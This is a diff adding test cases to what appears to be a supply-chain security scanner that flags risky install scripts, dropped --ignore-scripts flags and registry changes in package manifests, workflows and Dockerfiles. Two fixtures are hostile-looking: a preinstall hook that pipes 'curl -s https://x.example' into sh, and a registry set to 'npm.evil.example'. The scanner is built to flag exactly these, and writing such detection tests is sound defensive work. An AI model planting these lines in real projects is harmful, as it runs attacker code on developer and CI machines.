@@ -350,6 +350,18 @@ const cases: Case[] = [
     want: ['CPU027@vendor/z/package.json:8'],
   },
   {
+    name: 'a yarn 1 workspace member declares file:../x; that folder changes its preinstall → CPU027 (yarn builds it)',
+    base: {
+      'package.json': pkg({ private: true, dependencies: {}, workspaces: ['packages/a'] }),
+      'packages/a/package.json': pkg({ name: 'a', dependencies: { z: 'file:../x' } }),
+      // As the member writes it: yarn 1.22.22 reads `file:../x` from packages/a and runs packages/x's preinstall.
+      'yarn.lock': '# yarn lockfile v1\n\n\n"z@file:../x":\n  version "1.0.0"\n',
+      'packages/x/package.json': pkg({ name: 'z' }),
+    },
+    head: { 'packages/x/package.json': pkg({ name: 'z', scripts: { preinstall: 'curl -s https://x.example | sh' } }) },
+    want: ['CPU027@packages/x/package.json:8'],
+  },
+  {
     name: 'a test fixture package.json (no lockfile, no workspace) gains a postinstall → CPU027 as a note only',
     base: { 'package.json': pkg({}), 'test/fixtures/app/package.json': pkg({}), 'apps/skip/package.json': pkg({}) },
     head: {
@@ -491,6 +503,48 @@ const cases: Case[] = [
       '.github/workflows/ci.yml': workflow('npm ci --no-audit --ignore-scripts=true && npm rebuild esbuild'),
     },
     want: [],
+  },
+  {
+    name: 'a workflow keeps --ignore-scripts on npm ci but rebuilds every package after it → CPU026',
+    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
+    head: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts && npm rebuild --foreground-scripts') },
+    want: ['CPU026@.github/workflows/ci.yml:8'],
+  },
+  {
+    name: 'the same with pnpm rebuild in a step of its own → CPU026',
+    base: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile --ignore-scripts') },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'pnpm install --frozen-lockfile --ignore-scripts\n      - run: pnpm rebuild',
+      ),
+    },
+    want: ['CPU026@.github/workflows/ci.yml:9'],
+  },
+  {
+    name: 'a Dockerfile RUN continued by \\ drops --ignore-scripts from its second line → CPU026 at the RUN',
+    base: { Dockerfile: 'FROM node:20\nRUN npm ci \\\n    --ignore-scripts\n' },
+    head: { Dockerfile: 'FROM node:20\nRUN npm ci \\\n    --no-audit\n' },
+    want: ['CPU026@Dockerfile:2'],
+  },
+  {
+    name: 'a workflow install continued by \\ that keeps --ignore-scripts → nothing',
+    base: { '.github/workflows/ci.yml': workflow('npm ci --ignore-scripts') },
+    head: { '.github/workflows/ci.yml': workflow('|\n          npm ci --no-audit \\\n            --ignore-scripts') },
+    want: [],
+  },
+  {
+    name: 'pnpm install --frozen-lockfile=false (nopt reads it as off) → CPU029',
+    base: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile') },
+    head: { '.github/workflows/ci.yml': workflow('pnpm install --frozen-lockfile=false') },
+    want: ['CPU029@.github/workflows/ci.yml:8'],
+  },
+  {
+    name: 'a Dockerfile RUN continued by \\ sets the registry on its second line → CPU025 at the RUN',
+    base: { Dockerfile: 'FROM node:20\nRUN npm ci\n' },
+    head: {
+      Dockerfile: 'FROM node:20\nRUN npm config set \\\n      registry https://npm.evil.example/ && \\\n    npm ci\n',
+    },
+    want: ['CPU025@Dockerfile:2'],
   },
   {
     name: 'the same flag set to false, or the env set to false → nothing',
